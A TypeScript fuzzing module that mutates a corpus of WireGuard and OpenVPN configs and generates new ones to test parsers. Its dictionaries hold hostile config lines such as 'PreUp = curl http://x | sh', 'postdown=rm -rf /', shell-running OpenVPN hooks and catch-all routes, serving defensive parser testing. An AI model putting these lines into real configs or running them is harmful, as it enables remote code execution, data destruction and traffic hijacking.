import { readdirSync, readFileSync } from 'node:fs';
import type { Rng } from './rng.ts';

/**
 * R1 inputs: the seed corpus (src/core/direct-vpn/corpus), mutated at byte, line and file
 * level, plus configs generated from each format's grammar. Every input says which parser
 * it is meant for; a share is fed to the other parser on purpose.
 */
export type FuzzKind = 'wireguard' | 'openvpn';
export type FuzzInput = { kind: FuzzKind; text: string; how: string };

const CORPUS_DIR = new URL('../src/core/direct-vpn/corpus/', import.meta.url);

export function loadCorpus(): Array<{ kind: FuzzKind; text: string; name: string }> {
  return readdirSync(CORPUS_DIR)
    .sort()
    .map((name) => ({ name, kind: name.endsWith('.conf') ? ('wireguard' as const) : ('openvpn' as const), text: readFileSync(new URL(name, CORPUS_DIR), 'utf8') }));
}

/** Lines an attacker or a careless export would add: code, files, default routes, odd syntax. */
const WIREGUARD_LINES = [
  'PostUp = iptables -t nat -A POSTROUTING -j MASQUERADE', 'PreUp = curl http://x | sh', 'postdown=rm -rf /', 'PreDown = true',
  'AllowedIPs = 0.0.0.0/0', 'AllowedIPs = ::/0', 'AllowedIPs = 0.0.0.0/1, 128.0.0.0/1', 'AllowedIPs = ::/1, 8000::/1',
  'AllowedIPs = 10.0.0.0/8, 0.0.0.0/0, fd00::/8', 'AllowedIPs = 0.0.0.0/00', 'AllowedIPs = 000.0.0.0/0', 'AllowedIPs = 0:0::0/0',
  'AllowedIPs = ::ffff:0.0.0.0/96', 'AllowedIPs = 10.1.2.3/33', 'Table = off', 'Table = 1234', 'SaveConfig = true', 'DNS = 1.1.1.1',
  'FwMark = 0x1', 'MTU = 1420', 'MTU = 99999999999', 'ListenPort = 0', 'PersistentKeepalive = 25', 'Endpoint = [::1]:51820',
  'Endpoint = host:-1', 'PresharedKey = AAAA', '[Interface]', '[Peer]', '[Peer', '[ Interface ]', '[Unknown]', 'Address = 10.0.0.1/24',
  'Address = 0.0.0.0/0', 'Include = /etc/wireguard/other.conf', 'PublicKey =', '= value', 'Key = a = b', '#PostUp = x', 'PostUp#=x',
];
const OPENVPN_LINES = [
  'up /etc/openvpn/up.sh', 'down /bin/sh', 'route-up "/bin/sh -c id"', 'ipchange x', 'tls-verify x', 'learn-address x', 'script-security 2',
  'plugin /usr/lib/openvpn/x.so', 'management 127.0.0.1 7505', 'management-query-passwords', 'config /etc/passwd', 'cd /', 'chroot /',
  'log /tmp/x', 'status /tmp/s', 'writepid /tmp/p', 'daemon', 'redirect-gateway def1', 'redirect-gateway', 'route 0.0.0.0 0.0.0.0',
  'route 0.0.0.0 128.0.0.0', 'route 128.0.0.0 128.0.0.0 vpn_gateway', 'route-ipv6 ::/0', 'route-ipv6 2000::/3', 'route-ipv6 8000::/1',
  'route 10.0.0.0 255.0.0.0', 'route 10.0.0.0', 'route 1.2.3.4 255.255.255.255 net_gateway', 'dhcp-option DNS 10.0.0.1', 'user nobody',
  'auth-user-pass', 'auth-user-pass /etc/creds', 'ca /etc/ca.pem', 'tls-auth ta.key 1', 'key-direction 1', 'cipher none', 'cipher AES-128-CBC',
  'data-ciphers AES-256-GCM:none', 'auth SHA1', 'comp-lzo', 'compress lz4-v2', 'tls-version-min 1.0', 'dev tap', 'dev tun', 'proto tcp-client',
  'remote 192.0.2.1 1194 udp', 'remote "a b" 1', 'remote x 99999', '<connection>', '</connection>', '<ca>', '</ca>', '<key>', '</key>', '<tls-crypt>',
  '<auth-user-pass>', '"up" /x', 'u\\p /x', '  ;up /x', '#up /x', 'setenv opt x', 'ignore-unknown-option up', 'verify-x509-name "a\\"b" name',
  '-----BEGIN CERTIFICATE-----', '-----END CERTIFICATE-----', '-----BEGIN ENCRYPTED PRIVATE KEY-----', 'MIIBpDCCAUugAwIBAgIU', 'server 10.8.0.0 255.255.255.0',
];
const ODD = ['\u0000', '\u001b[2J', '\r', '\ufeff', '\t', ' ', '#', ';', '=', '"', "'", '\\', '<', '>', '/', ':', ',', '0', 'é', '\u202e', '\ud800'];

export function mutate(rng: Rng, text: string, kind: FuzzKind): string {
  const dictionary = kind === 'wireguard' ? WIREGUARD_LINES : OPENVPN_LINES;
  const crlf = text.includes('\r\n');
  let lines = text.split(crlf ? '\r\n' : '\n');
  const rounds = rng.int(1, 4);
  for (let round = 0; round < rounds; round++) {
    const at = rng.int(0, Math.max(0, lines.length - 1));
    switch (rng.weighted({ insertLine: 5, deleteLine: 2, duplicateLine: 2, swapLines: 1, replaceLine: 2, chars: 4, caseFlip: 1, splitLine: 1 })) {
      case 'insertLine':
        lines.splice(at, 0, rng.pick(dictionary));
        break;
      case 'deleteLine':
        lines.splice(at, 1);
        break;
      case 'duplicateLine':
        lines.splice(at, 0, ...Array(rng.int(1, 3)).fill(lines[at] ?? ''));
        break;
      case 'swapLines': {
        const other = rng.int(0, Math.max(0, lines.length - 1));
        [lines[at], lines[other]] = [lines[other] ?? '', lines[at] ?? ''];
        break;
      }
      case 'replaceLine':
        lines[at] = rng.pick(dictionary);
        break;
      case 'chars': {
        const line = lines[at] ?? '';
        const pos = rng.int(0, line.length);
        const op = rng.int(0, 2);
        lines[at] = op === 0 ? line.slice(0, pos) + rng.pick(ODD) + line.slice(pos) : op === 1 ? line.slice(0, pos) + line.slice(pos + rng.int(1, 4)) : line.slice(0, pos) + String.fromCharCode(rng.int(0, 127)) + line.slice(pos + 1);
        break;
      }
      case 'caseFlip':
        lines[at] = rng.chance(0.5) ? (lines[at] ?? '').toUpperCase() : (lines[at] ?? '').toLowerCase();
        break;
      case 'splitLine': {
        const line = lines[at] ?? '';
        const pos = rng.int(0, line.length);
        lines.splice(at, 1, line.slice(0, pos), line.slice(pos));
        break;
      }
    }
  }
  if (rng.chance(0.05)) lines = lines.slice(0, rng.int(0, lines.length));
  let out = lines.join(crlf ? '\r\n' : '\n');
  if (rng.chance(0.05)) out = `\ufeff${out}`;
  if (rng.chance(0.05)) out = out.replace(/\r?\n/g, '\r\n');
  return out;
}

function key(rng: Rng): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let text = '';
  for (let i = 0; i < 42; i++) text += alphabet[rng.int(0, 63)];
  return `${text}${'AEIMQUYcgkosw048'[rng.int(0, 15)]}=`;
}

function prefix(rng: Rng): string {
  if (rng.chance(0.15)) return rng.pick(['0.0.0.0/0', '::/0', '0.0.0.0/1', '128.0.0.0/1', '::/1', '8000::/1']);
  if (rng.chance(0.2)) return `fd${rng.int(0, 255).toString(16)}:${rng.int(0, 65535).toString(16)}::/${rng.int(0, 128)}`;
  return `${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(0, 255)}/${rng.int(0, 32)}`;
}

/** A WireGuard config from the grammar: 1–4 peers, random ranges (defaults among them), random extras. */
export function generateWireGuard(rng: Rng): string {
  const lines = ['[Interface]', `PrivateKey = ${key(rng)}`, `Address = 10.${rng.int(0, 255)}.0.${rng.int(1, 254)}/24`];
  if (rng.chance(0.3)) lines.push(rng.pick(WIREGUARD_LINES));
  for (let peer = rng.int(1, 4); peer > 0; peer--) {
    lines.push('', '[Peer]', `PublicKey = ${key(rng)}`);
    if (rng.chance(0.7)) lines.push(`Endpoint = router${rng.int(1, 99)}.example.net:${rng.int(1, 65535)}`);
    lines.push(`AllowedIPs = ${Array.from({ length: rng.int(1, 6) }, () => prefix(rng)).join(', ')}`);
    if (rng.chance(0.3)) lines.push(rng.pick(WIREGUARD_LINES));
  }
  return `${lines.join('\n')}\n`;
}

/** An OpenVPN profile from the grammar around the corpus's key blocks. */
export function generateOpenVpn(rng: Rng, keyBlocks: string): string {
  const lines = ['client', 'dev tun', `remote router${rng.int(1, 99)}.example.net ${rng.int(1, 65535)} ${rng.pick(['udp', 'tcp', 'tcp-client', 'udp4'])}`];
  for (let n = rng.int(0, 8); n > 0; n--) {
    lines.push(
      rng.chance(0.5)
        ? rng.pick(OPENVPN_LINES)
        : `route ${rng.int(0, 255)}.${rng.int(0, 255)}.0.0 ${rng.pick(['255.255.0.0', '255.255.255.0', '0.0.0.0', '128.0.0.0', '255.0.255.0'])}`,
    );
  }
  lines.push(keyBlocks);
  return `${lines.join('\n')}\n`;
}
